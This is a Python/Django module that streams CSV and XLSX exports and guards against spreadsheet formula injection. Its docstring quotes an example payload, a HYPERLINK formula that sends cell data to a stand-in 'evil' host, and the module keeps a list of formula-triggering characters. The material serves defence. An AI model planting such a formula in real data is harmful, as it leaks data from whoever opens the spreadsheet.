"""Spreadsheet downloads (CSV and XLSX) that a spreadsheet program cannot be tricked into running.

A cell whose text starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return
is read as a formula by Excel, WPS and LibreOffice; a client could put
``=HYPERLINK("http://evil/?"&A1,"点击")`` into a ticket title and have it run on the
vendor's computer when an agent opens the export (CSV/formula injection). Every string
cell goes through :func:`cell_safe`, which prefixes such text with a single quote
(OWASP "CSV Injection"). Numbers, dates and times stay typed values, so sums and date
filters keep working; aware datetimes are written in the active time zone.

``rows`` may be any iterable (a generator over a queryset's ``iterator()``): CSV
streams as it is read; XLSX is written to a temporary file and then streamed.
Lazy values in rows are evaluated while the response is produced, so callers pass
rows in final form (translated labels already strings).
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import itertools
import math
import re
import tempfile
import unicodedata
from collections.abc import Iterable, Iterator, Sequence
from decimal import Decimal
from typing import IO, Any, Final
from urllib.parse import quote

from django.http import FileResponse, StreamingHttpResponse
from django.utils import timezone

type Cell = str | bool | int | float | Decimal | dt.datetime | dt.date | dt.time | None

# A cell starting with one of these is a formula (or becomes one) in Excel, WPS and LibreOffice.
FORMULA_STARTS: Final = ("=", "+", "-", "@", "\t", "\r")
# Excel reads a CSV as UTF-8 only when it starts with a byte-order mark.
BOM: Final = "\ufeff"
CSV_CONTENT_TYPE: Final = "text/csv; charset=utf-8"
XLSX_CONTENT_TYPE: Final = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
# Excel refuses longer cell text ("unreadable content") and longer sheet titles.
XLSX_MAX_CELL_CHARS: Final = 32767
XLSX_MAX_TITLE_CHARS: Final = 31
# Column widths are measured on the header and this many first rows.
WIDTH_SAMPLE_ROWS: Final = 200
MIN_WIDTH: Final = 6
MAX_WIDTH: Final = 60
CSV_FLUSH_ROWS: Final = 200
# Characters XML 1.0 (and so XLSX) cannot hold.
_XML_ILLEGAL = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f\ufffe\uffff]")
_SHEET_TITLE_ILLEGAL = re.compile(r"[\\/?*\[\]:]")


def cell_safe(value: object) -> Cell:
    """``value`` as a spreadsheet cell that is never a formula.

    Numbers (not NaN or infinity), booleans, ``Decimal``, dates, times and None are
    returned as they are. Anything else becomes text, and text starting with one of
    :data:`FORMULA_STARTS` gets a leading ``'``.
    """
    if value is None or isinstance(value, bool | int | Decimal | dt.date | dt.time):
        return value
    if isinstance(value, float) and math.isfinite(value):
        return value
    text = str(value)
    return "'" + text if text.startswith(FORMULA_STARTS) else text


def _local(value: Cell) -> Cell:
    """Aware datetimes in the active time zone, without tzinfo (spreadsheets have no time zones)."""
    if isinstance(value, dt.datetime) and timezone.is_aware(value):
        return timezone.localtime(value).replace(tzinfo=None)
    return value


def attachment_disposition(filename: str) -> str:
    """A Content-Disposition that forces a download and keeps a Chinese name (RFC 6266 / 5987).

    Old clients read the ASCII ``filename`` (non-ASCII and unsafe characters replaced
    by ``_``); every current browser prefers ``filename*``. Path separators and
    control characters never reach either.
    """
    name = (
        "".join("_" if ch in "/\\" else ch for ch in filename if unicodedata.category(ch)[0] != "C").strip()
        or "download"
    )
    stem, dot, ext = name.rpartition(".")
    has_extension = bool(dot and stem and ext.isascii() and ext.isalnum() and len(ext) <= 10)
    ascii_name = "".join(ch if ch.isascii() and ch.isprintable() and ch not in '"\\;%' else "_" for ch in name)
    ascii_stem = ascii_name[: -len(ext) - 1] if has_extension else ascii_name
    if not ascii_stem.strip("_. "):
        ascii_name = f"download.{ext}" if has_extension else "download"
    return f"attachment; filename=\"{ascii_name}\"; filename*=UTF-8''{quote(name, safe='')}"


def _csv_text(value: Cell) -> str:
    local = _local(value)
    if local is None:
        return ""
    if isinstance(local, dt.datetime):
        return local.strftime("%Y-%m-%d %H:%M:%S")
    if isinstance(local, dt.date | dt.time):
        return local.isoformat()
    if isinstance(local, bool):
        return "TRUE" if local else "FALSE"
    return str(local).replace("\x00", "")


def csv_chunks(header: Sequence[object], rows: Iterable[Iterable[object]]) -> Iterator[str]:
    """The CSV text in chunks: a BOM and the header first, then rows a few hundred at a time."""
    buffer = io.StringIO()
    writer = csv.writer(buffer)

    def flush() -> str:
        text = buffer.getvalue()
        buffer.seek(0)
        buffer.truncate()
        return text

    writer.writerow([_csv_text(cell_safe(cell)) for cell in header])
    yield BOM + flush()
    for number, row in enumerate(rows, start=1):
        writer.writerow([_csv_text(cell_safe(cell)) for cell in row])
        if number % CSV_FLUSH_ROWS == 0:
            yield flush()
    yield flush()


def csv_response(filename: str, header: Sequence[object], rows: Iterable[Iterable[object]]) -> StreamingHttpResponse:
    """A streamed CSV download (UTF-8 with BOM, for Excel) of ``header`` and ``rows``.

    The header is turned into text now, in the active language; rows are read as the
    response streams. Every cell goes through :func:`cell_safe`.
    """
    fixed_header = [str(cell) if cell is not None else "" for cell in header]
    chunks = (chunk.encode("utf-8") for chunk in csv_chunks(fixed_header, rows))
    response = StreamingHttpResponse(chunks, content_type=CSV_CONTENT_TYPE)
    response["Content-Disposition"] = attachment_disposition(filename)
    response["X-Content-Type-Options"] = "nosniff"
    return response


def _display_width(value: Cell) -> int:
    if value is None:
        return 0
    text = value.strftime("%Y-%m-%d %H:%M:%S") if isinstance(value, dt.datetime) else str(value)
    longest = max(text.split("\n"), key=len)
    # Chinese characters take two columns' room.
    return sum(2 if unicodedata.east_asian_width(ch) in "WF" else 1 for ch in longest)


def _xlsx_value(value: object) -> tuple[Cell, bool]:
    """The value to write and whether it must be stored as text."""
    safe = _local(cell_safe(value))
    if isinstance(safe, str):
        return _XML_ILLEGAL.sub("", safe)[:XLSX_MAX_CELL_CHARS], True
    return safe, False


def sheet_title_clean(title: str) -> str:
    """A sheet title Excel accepts: no ``\\ / ? * [ ] :``, at most 31 characters, never empty."""
    cleaned = _SHEET_TITLE_ILLEGAL.sub("_", _XML_ILLEGAL.sub("", title)).strip("' ")
    return cleaned[:XLSX_MAX_TITLE_CHARS] or "Sheet1"


def xlsx_write(
    target: IO[bytes],
    sheet_title: str,
    header: Sequence[object],
    rows: Iterable[Iterable[object]],
) -> None:
    """Write one sheet (bold, frozen header; widths from the first rows) to the file object ``target``."""
    # openpyxl takes about a second to import; only exports pay for it.
    from openpyxl import Workbook  # type: ignore[import-untyped]
    from openpyxl.cell import WriteOnlyCell  # type: ignore[import-untyped]
    from openpyxl.styles import Font  # type: ignore[import-untyped]
    from openpyxl.utils import get_column_letter  # type: ignore[import-untyped]

    workbook = Workbook(write_only=True)
    sheet = workbook.create_sheet(title=sheet_title_clean(sheet_title))
    row_iterator = iter(rows)
    sample = [[_xlsx_value(cell) for cell in row] for row in itertools.islice(row_iterator, WIDTH_SAMPLE_ROWS)]
    header_cells = [_xlsx_value("" if cell is None else str(cell)) for cell in header]
    columns = max([len(header_cells), *(len(row) for row in sample)])
    for index in range(columns):
        measured = [_display_width(row[index][0]) for row in [header_cells, *sample] if index < len(row)]
        width = min(MAX_WIDTH, max(MIN_WIDTH, max(measured, default=0) + 2))
        sheet.column_dimensions[get_column_letter(index + 1)].width = width
    # Write-only sheets take the frozen pane before the first row is written.
    sheet.freeze_panes = "A2"
    bold = Font(bold=True)

    def written(values: list[tuple[Cell, bool]], font: Any = None) -> list[Any]:
        cells = []
        for value, as_text in values:
            cell = WriteOnlyCell(sheet, value=value)
            if as_text:
                # A string is never a formula, whatever openpyxl would guess from it.
                cell.data_type = "s"
            if font is not None:
                cell.font = font
            cells.append(cell)
        return cells

    sheet.append(written(header_cells, bold))
    for row_values in sample:
        sheet.append(written(row_values))
    for row in row_iterator:
        sheet.append(written([_xlsx_value(cell) for cell in row]))
    workbook.save(target)


def xlsx_response(
    filename: str, sheet_title: str, header: Sequence[object], rows: Iterable[Iterable[object]]
) -> FileResponse:
    """An XLSX download of one sheet: bold frozen header, fitted column widths, formula-safe text.

    The workbook is written (openpyxl write-only mode, constant memory) to a temporary
    file that the response streams and then closes.
    """
    spool = tempfile.TemporaryFile()  # noqa: SIM115 - FileResponse closes it after sending
    try:
        xlsx_write(spool, sheet_title, header, rows)
        spool.seek(0)
    except BaseException:
        spool.close()
        raise
    response = FileResponse(spool, content_type=XLSX_CONTENT_TYPE)
    response["Content-Disposition"] = attachment_disposition(filename)
    return response
